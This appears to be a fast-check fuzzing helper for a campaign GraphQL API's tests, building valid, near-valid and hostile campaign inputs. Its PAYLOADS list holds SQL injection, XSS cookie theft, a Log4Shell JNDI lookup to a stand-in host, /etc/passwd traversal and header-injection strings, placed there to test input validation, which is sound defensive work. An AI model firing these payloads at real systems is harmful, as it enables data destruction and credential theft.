import fc from 'fast-check';
import { INPUT_PATHS } from '../../src/campaigns/mutations/input-fields.js';

/** The fuzzer's campaign inputs and value pools (fuzz.test.ts). */

// ---------------------------------------------------------------------------------------------
// Campaign inputs

/**
 * The fuzzer thinks in the campaign API's field names, to compare what it sent with the backend's
 * records field by field; the GraphQL inputs carry the same values grouped under the output's
 * names. `nest` moves each value to its place in the input (`merchantName` → `merchant.name`).
 */
export function nest(flat: Record<string, unknown>): Record<string, unknown> {
  const input: Record<string, any> = {};
  for (const [field, value] of Object.entries(flat)) {
    const path = (INPUT_PATHS as Record<string, readonly string[]>)[field] ?? [field];
    if (path.length === 1) input[path[0]!] = value;
    else (input[path[0]!] ??= {})[path[1]!] = value;
  }
  return input;
}

/** A valid promo campaign, flat: the campaign API's names, the GraphQL API's enum values. */
export const flatPromo = (partnerCampaignId: number): Record<string, unknown> => ({
  partnerCampaignId,
  categoryId: '2',
  campaignType: 'PROMO',
  acceptUrl: 'https://shop.example.ru/promo',
  merchantDomain: 'shop.example.ru',
  merchantLogoSvg: 'https://shop.example.ru/logo.svg',
  merchantLogoPng: 'https://shop.example.ru/logo.png',
  merchantName: 'Магазин',
  backgroundColor: '#1A237E',
  fontColor: '#FFFFFF',
  description: 'Скидка на всё',
  conditions: 'При заказе от 1000 рублей',
  discountType: 'PERCENT',
  discountAmount: '15',
  campaignFee: '5',
  feeType: 'PERCENT',
});

// ---------------------------------------------------------------------------------------------
// Value pools

export const PAYLOADS = [
  "'; DROP TABLE campaigns; --",
  '" OR "1"="1',
  "1' UNION SELECT token FROM partners --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b\u0001c\u001fd\u007f',
  '\r\nSet-Cookie: x=1',
  '\u202Eгазин',
  '😀🎉🔥',
  '👨‍👩‍👧‍👦 семья',
  'Скидка 💸 сегодня',
  '\uD800',
  '\uFFFF\uFFFE',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x1F',
  ' ',
  '',
];

/** Any text: payloads, arbitrary code points (lone surrogates and control characters included), huge strings. */
export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('Я', 'x', '😀', '\u0007'), fc.integer({ min: 300, max: 200_000 })).map(([c, n]) => c.repeat(n)) },
);

/** Values of the wrong GraphQL type for a String field: the request is refused as a whole (400). */
export const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant({ nested: 'object' }), fc.constant(['list']));

export const cyrillicText = (max: number) =>
  fc
    .tuple(fc.constantFrom('Скидка', 'Подарок', 'Бонус', 'Акция', 'Выгода'), fc.string({ unit: 'grapheme', maxLength: max - 10 }))
    .map(([word, tail]) => `${word} ${tail}`.slice(0, max));

export const money = fc.oneof(fc.integer({ min: 0, max: 100_000 }).map(String), fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 99 })).map(([a, b]) => `${a}.${String(b).padStart(2, '0')}`));

export const DARK = ['#1A237E', '#000', '#1B5E20', '#4A148C', '#B71C1C', '#0D47A1', '#3E2723'];

/** A valid createCampaign input of every campaign kind. */
export const validCreate = fc
  .record({
    kind: fc.constantFrom('PROMO', 'BANNER', 'CODE_ONLINE_ONE_OFF', 'CODE_OFFLINE_REUSABLE'),
    merchantName: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0),
    description: cyrillicText(90),
    conditions: cyrillicText(512),
    discount: fc.oneof(
      fc.integer({ min: 1, max: 100 }).map((n) => ({ discountType: 'PERCENT', discountAmount: String(n) })),
      money.filter((m) => m.length <= 30).map((m) => ({ discountType: 'FIX', discountAmount: m })),
      cyrillicText(30).map((t) => ({ discountType: 'TEXT', discountAmount: t })),
    ),
    campaignFee: money,
    backgroundColor: fc.constantFrom(...DARK),
  })
  .map(({ kind, discount, ...rest }) => {
    const byKind: Record<string, Record<string, unknown>> = {
      PROMO: {},
      BANNER: { campaignType: 'BANNER', appearanceType: 'IMAGE_BANNER', backgroundImage: 'https://shop.example.ru/banner.png' },
      CODE_ONLINE_ONE_OFF: { campaignType: 'CODE_ONLINE', pinType: 'ONE_OFF', pinDisplayType: 'TEXT' },
      CODE_OFFLINE_REUSABLE: { campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'REUSABLE', pinDisplayType: 'TEXT', couponCode: 'КОД-2024' },
    };
    return { ...byKind[kind], ...discount, ...rest };
  });

/** Off by a little, on a valid PROMO input: each breaks exactly one rule a form would have to explain. */
export const NEAR_VALID: Record<string, unknown>[] = [
  { description: 'Discount for everyone' },
  { description: 'Я'.repeat(91) },
  { description: '' },
  { conditions: 'Я'.repeat(513) },
  { backgroundColor: '#FFF' },
  { backgroundColor: '#12345' },
  { backgroundColor: 'navy' },
  { fontColor: '#1A237F' },
  { merchantDomain: 'https://shop.example.ru' },
  { merchantDomain: 'www.shop.example.ru' },
  { merchantDomain: 'shop.example.ru/' },
  { merchantDomain: '-shop.ru' },
  { discountType: 'PERCENT', discountAmount: '0' },
  { discountType: 'PERCENT', discountAmount: '100.01' },
  { discountType: 'FIX', discountAmount: '15.555' },
  { discountType: 'FIX', discountAmount: '1e2' },
  { discountType: 'TEXT', discountAmount: 'Gift' },
  { campaignFee: '1.001' },
  { campaignFee: '-1' },
  { campaignFee: ' 5' },
  { campaignFee: null, campaignFeeMin: '10', campaignFeeMax: '5' },
  { campaignFeeMin: '1', campaignFeeMax: '5' },
  { acceptUrl: 'ftp://shop.example.ru' },
  { acceptUrl: 'javascript:alert(1)' },
  { acceptUrl: null },
  { merchantLogoSvg: `https://${'a'.repeat(300)}.ru/logo.svg` },
  { categoryId: '0' },
  { categoryId: '999' },
  { categoryId: 'abc' },
  { categoryId: '1.5' },
  { partnerCampaignId: -7 },
  { campaignEnd: '2020-01-01T00:00:00Z' },
  { campaignStart: 'tomorrow' },
  { campaignStart: '2030-02-01T00:00:00Z', campaignEnd: '2030-01-01T00:00:00Z' },
  { offerDuration: 0 },
  { offerDuration: 100_001 },
  { supportedPlatforms: [] },
  { discountCurrency: 'USD' },
  { campaignType: 'CODE' },
  { campaignType: 'UNKNOWN' },
  { campaignType: 'CODE_ONLINE' },
  { pinType: 'ONE_OFF', pinDisplayType: 'TEXT', couponCode: 'NOPE', campaignType: 'CODE_ONLINE' },
  { feeCurrency: 'UNKNOWN' },
  { cashbackConfirmTime: 3651 },
];
export const STRING_FIELDS = ['merchantName', 'description', 'conditions', 'merchantDomain', 'backgroundColor', 'fontColor', 'discountAmount', 'campaignFee', 'acceptUrl', 'couponCode', 'merchantLogoPng'];

export type Variant = { label: 'valid' | 'near-valid' | 'hostile' | 'wrong type'; input: Record<string, unknown> };

/** Valid, near-valid (one rule broken), hostile (1-3 fields replaced) and wrongly typed inputs. */
export function variants(valid: fc.Arbitrary<Record<string, unknown>>, near: fc.Arbitrary<Record<string, unknown>>, fields: string[]): fc.Arbitrary<Variant> {
  return fc.oneof(
    valid.map((input) => ({ label: 'valid' as const, input })),
    fc.tuple(near, fc.constantFrom(...NEAR_VALID)).map(([input, patch]) => ({ label: 'near-valid' as const, input: { ...input, ...patch } })),
    fc
      .tuple(valid, fc.uniqueArray(fc.tuple(fc.constantFrom(...fields), hostileString), { minLength: 1, maxLength: 3, selector: ([k]) => k }))
      .map(([input, replaced]) => ({ label: 'hostile' as const, input: { ...input, ...Object.fromEntries(replaced) } })),
    fc.tuple(valid, fc.constantFrom(...fields), wrongType).map(([input, key, value]) => ({ label: 'wrong type' as const, input: { ...input, [key]: value } })),
  );
}
